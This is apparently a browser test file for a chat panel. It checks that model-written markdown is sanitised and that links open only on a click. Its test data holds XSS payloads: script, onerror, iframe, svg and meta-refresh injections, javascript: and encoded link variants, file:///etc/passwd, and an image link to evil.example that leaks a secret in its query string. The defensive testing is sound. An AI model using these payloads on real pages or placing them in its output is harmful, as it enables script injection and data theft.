import assert from 'node:assert/strict';
import { shown, stateOf, useChatPage } from './chat/chatPage';

describe('What the chat page shows', () => {
  const chat = useChatPage();
  const log = () => chat.page.getByRole('log');

  describe('shows what a model wrote without trusting it', () => {
    async function check(text: string, expectText: string): Promise<void> {
      await chat.tell(stateOf([shown('m1', { text })]));
      await log().getByText(expectText).first().waitFor();
      const made = await chat.page.evaluate<readonly string[]>(`
        [...document.querySelectorAll('.markdown *')].flatMap((one) => [
          one.tagName.toLowerCase(),
          ...one.getAttributeNames().filter((name) => /^on|^href$|^src|^style$|^formaction$/.test(name)),
        ])`);
      for (const forbidden of [
        'script',
        'img',
        'iframe',
        'svg',
        'style',
        'form',
        'input',
        'object',
        'href',
        'src',
        'style',
      ])
        assert.ok(!made.includes(forbidden), `${forbidden} in ${made.join(' ')}`);
      assert.ok(!made.some((name) => name.startsWith('on')), made.join(' '));
      assert.equal(await chat.page.evaluate('window.wasAttacked'), undefined);
    }

    const ATTACKS: readonly (readonly [string, string, string])[] = [
      ['a script', '<script>window.wasAttacked = 1</script> end', 'end'],
      ['an error handler', '<img src=x onerror="window.wasAttacked = 1"> end', 'end'],
      [
        'an image from elsewhere',
        '![chart](https://evil.example/pixel.png?code=secret) end',
        '[Image, not loaded: chart]',
      ],
      ['an image in a link', '[![chart](https://evil.example/p.png)](https://evil.example) end', 'end'],
      ['an image by reference', '![chart][1] end\n\n[1]: https://evil.example/p.png', 'end'],
      ['a frame', '<iframe srcdoc="<script>parent.wasAttacked = 1</script>"></iframe> end', 'end'],
      ['a drawing', '<svg onload="window.wasAttacked = 1"><style>*{display:none}</style></svg> end', 'end'],
      ['a style', '<style>@import "https://evil.example/x.css";</style> end', 'end'],
      ['markup in a code language', '```"><img src=x onerror=window.wasAttacked=1>\nx\n```\n\nend', 'end'],
      ['markup in nested code', '- ```"><img/src=x/onerror=window.wasAttacked=1>\n  <b>x</b>\n  ```\n\nend', 'end'],
      ['markup in a link title', '[x](https://a.example "\\" onmouseover=window.wasAttacked=1") end', 'end'],
      ['a comment that swallows', '<!-- <p> end', 'end'],
      ['a redirect', '<meta http-equiv="refresh" content="0;url=https://evil.example"> end', 'end'],
    ];
    for (const [name, text, expectText] of ATTACKS) it(name, () => check(text, expectText));

    it('links of other kinds than web and file', async () => {
      const links = [
        'javascript:window.wasAttacked=1',
        'JaVaScRiPt:window.wasAttacked=1',
        '&#106;avascript:window.wasAttacked=1',
        'java&Tab;script:window.wasAttacked=1',
        'data:text/html,<script>1</script>',
        'vbscript:x',
        'file:///etc/passwd',
        'command:workbench.action.terminal.new',
        'vscode://x.y/z',
        '//evil.example/x',
        '\\\\\\\\evil.example\\\\x',
      ];
      await check(`${links.map((link) => `[x](${link})`).join(' ')} <javascript:x> end`, 'end');
      assert.equal(await log().getByRole('link').count(), 0);
    });
  });

  describe('opens a link only when it is clicked, through the extension', () => {
    async function check(markdown: string, name: string, href: string, press?: string): Promise<void> {
      await chat.tell(stateOf([shown('m1', { text: markdown })]));
      const link = log().getByRole('link', { name });
      if (press) await link.press(press);
      else await link.click();
      assert.deepEqual(await chat.waitForSent('open'), { type: 'open', href });
      assert.equal(new URL(chat.page.url()).pathname, '/');
    }

    it('a file', () => check('See [orders.ts:10](src/orders.ts#L10).', 'orders.ts:10', 'src/orders.ts#L10'));
    it('a file with a line after a colon', () => check('[x](orders.ts:10-12)', 'x', 'orders.ts#L10-L12'));
    it('a file with line and column', () => check('[x](a/orders.ts:10:3)', 'x', 'a/orders.ts#L10'));
    it('a file with blanks', () => check('[x](<src/my orders.ts>)', 'x', 'src/my%20orders.ts'));
    it('a page', () => check('[docs](https://example.org/a?b=c)', 'docs', 'https://example.org/a?b=c'));
    it('a bare address', () => check('https://example.org/a', 'https://example.org/a', 'https://example.org/a'));
    it('by the keyboard', () => check('[x](a.ts)', 'x', 'a.ts', 'Enter'));
    it('but takes no file name for an address', async () => {
      await chat.tell(stateOf([shown('m1', { text: 'See README.md and app.py.' })]));
      await log().getByText('See README.md').waitFor();
      assert.equal(await log().getByRole('link').count(), 0);
    });
  });

  it('draws a growing text as it draws the whole', async () => {
    await chat.tell(stateOf([shown('m1', { text: EVERYTHING }), shown('m2', { state: 'streaming' })]));
    await chat.page.evaluate(`(async () => {
      const text = ${JSON.stringify(EVERYTHING)};
      for (let start = 0; start < text.length; start += 5) {
        window.postMessage({ type: 'delta', id: 'm2', text: text.slice(start, start + 5) }, '*');
        await new Promise((resolve) => requestAnimationFrame(resolve));
      }
    })()`);
    await log().getByText('The end.').nth(1).waitFor();
    const [whole, grown] = await chat.page.evaluate<readonly string[]>(
      `[...document.querySelectorAll('.markdown')].map((text) => text.innerHTML)`,
    );
    assert.equal(grown, whole);
  });

  describe('lets code be used', () => {
    beforeEach(() =>
      chat.tell(
        stateOf([shown('m1', { text: '```ts\nif (a < b) {}\n```\n\n1. Then\n\n   ```\n   npm ci\n   ```\n' })]),
      ),
    );

    it('copies it as it is', async () => {
      await chat.page.getByRole('button', { name: 'Copy' }).first().click();
      assert.deepEqual(await chat.waitForSent('copy'), { type: 'copy', text: 'if (a < b) {}' });
      await chat.page.getByRole('button', { name: 'Copied' }).waitFor();
    });

    it('inserts it, nested code too', async () => {
      await chat.page.getByRole('button', { name: 'Insert at cursor' }).last().click();
      assert.deepEqual(await chat.waitForSent('insert'), { type: 'insert', text: 'npm ci' });
    });
  });
});

const EVERYTHING = [
  '# Title\n',
  'A paragraph with **strong**, `code` and [a link](a.ts#L1)\nover two lines.\n',
  'A title\n=======\n',
  '- one\n- two\n\n  still two\n\n- three\n\n  ```ts\n  nested();\n  ```\n',
  '1. first\n2. second\n',
  '> quoted\nlazily\n',
  '| a | b |\n|---|---|\n| 1 | 2 |\n',
  '```ts\nconst a = 1;\n\n- no list\n```\n',
  '    indented code\n\n    goes on\n',
  '---\n',
  'Windows\r\nlines.\r\n\r\n* star\r\n',
  'The end.',
].join('\n');
